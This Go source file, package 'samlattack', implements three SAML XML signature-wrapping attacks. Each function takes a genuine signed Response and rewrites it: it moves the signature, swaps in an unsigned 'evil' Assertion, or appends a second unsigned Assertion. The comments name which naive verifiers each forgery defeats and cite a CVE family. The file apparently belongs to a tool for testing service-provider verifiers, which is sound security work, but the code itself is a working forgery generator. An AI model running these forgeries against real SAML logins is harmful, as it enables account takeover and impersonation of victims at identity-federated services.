package samlattack

// UnsignedAssertionInSignedResponse needs a signed Assertion. It makes a
// Response that looks signed while its Assertion is not: the Assertion's
// place holds an evil, unsigned copy, and the genuine signature moves up to
// be the Response's child (where a Response signature sits), with a copy of
// the genuine Assertion inside it for its Reference to find. The signature
// is valid, but it covers something else than the Response:
//
//	<Response> <Issuer/>
//	  <Signature> #genuine … <Assertion ID="genuine"/> </Signature>
//	  <Status/>
//	  <Assertion ID="_evil…"> victim </Assertion>
//	</Response>
//
// Live against: root, last, with a verifier that accepts a valid
// signature without checking that its Reference is the Response's ID. A
// Response signature in the input is dropped.
func UnsignedAssertionInSignedResponse(signed []byte, a Attacker) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	assertion, sig, err := signedAssertion(root)
	if err != nil {
		return nil, err
	}
	evil, err := a.evilCopy(assertion)
	if err != nil {
		return nil, err
	}
	genuine := genuineCopy(assertion, sig)
	moved := detach(sig)
	moved.AddChild(genuine)
	if s := signatureOf(root); s != nil {
		root.RemoveChild(s)
	}
	replace(assertion, evil)
	insertAfter(root, moved, issuerName)
	return write(doc)
}

// ReplacedAssertionInSignedResponse needs a signed Response: the reverse of
// UnsignedAssertionInSignedResponse. The Response keeps its signature and
// its ID; its Assertion is replaced by an evil one with the genuine
// Assertion's ID and no signature. The Response's digest no longer matches:
// no signature in the document verifies.
//
// Dead against any verifier that recomputes the digest (no signature
// verifies, so it is live against none of the naive readers); it pins an
// SP that trusts a Response because it carries a Signature element, or
// that checks the SignatureValue over SignedInfo without the Reference's
// DigestValue.
func ReplacedAssertionInSignedResponse(signed []byte, a Attacker) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	if signatureOf(root) == nil {
		return nil, ErrResponseNotSigned
	}
	as := children(root, nsAssertion, "Assertion")
	if len(as) == 0 {
		return nil, ErrNoAssertion
	}
	for _, assertion := range as {
		evil, err := a.evilCopy(assertion)
		if err != nil {
			return nil, err
		}
		evil.CreateAttr("ID", assertion.SelectAttrValue("ID", ""))
		replace(assertion, evil)
	}
	return write(doc)
}

// SecondAssertion needs a signed Assertion. An evil, unsigned copy of the
// Assertion is added after the signed one, both children of the Response
// (a Response signature in the input is dropped):
//
//	<Response> <Issuer/> <Status/>
//	  <Assertion ID="genuine"> <Signature>#genuine</Signature> … </Assertion>
//	  <Assertion ID="_evil…"> victim </Assertion>
//	</Response>
//
// SAML allows several Assertions in a Response; an SP must accept exactly
// the one the signature covers. Live against an SP that verifies one
// Assertion and reads another: here, last, which reads all of them
// (crewjam/saml's CVE-2022-41912 was of this family: several Assertions,
// one verified and another one used).
func SecondAssertion(signed []byte, a Attacker) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	assertion, _, err := signedAssertion(root)
	if err != nil {
		return nil, err
	}
	evil, err := a.evilCopy(assertion)
	if err != nil {
		return nil, err
	}
	if s := signatureOf(root); s != nil {
		root.RemoveChild(s)
	}
	root.InsertChildAt(assertion.Index()+1, evil)
	return write(doc)
}
